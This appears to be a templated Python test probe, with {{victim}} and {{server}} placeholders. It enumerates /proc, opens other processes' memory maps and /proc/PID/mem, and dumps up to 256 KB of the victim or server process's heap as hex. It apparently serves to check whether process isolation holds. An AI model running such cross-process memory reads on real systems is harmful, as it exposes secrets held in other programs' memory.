import os

def f(x):
    for pid in [int(name) for name in os.listdir("/proc") if name.isdigit()] + [{{victim}}, {{server}}]:
        if pid == os.getpid():
            continue
        try:
            with open("/proc/%d/maps" % pid) as maps, open("/proc/%d/mem" % pid, "rb") as memory:
                for line in maps:
                    start, end = (int(part, 16) for part in line.split()[0].split("-"))
                    if "[heap]" in line and pid in ({{victim}}, {{server}}):
                        memory.seek(start)
                        return memory.read(min(end - start, 1 << 18)).hex()
        except (OSError, ValueError):
            pass
    return "refused"
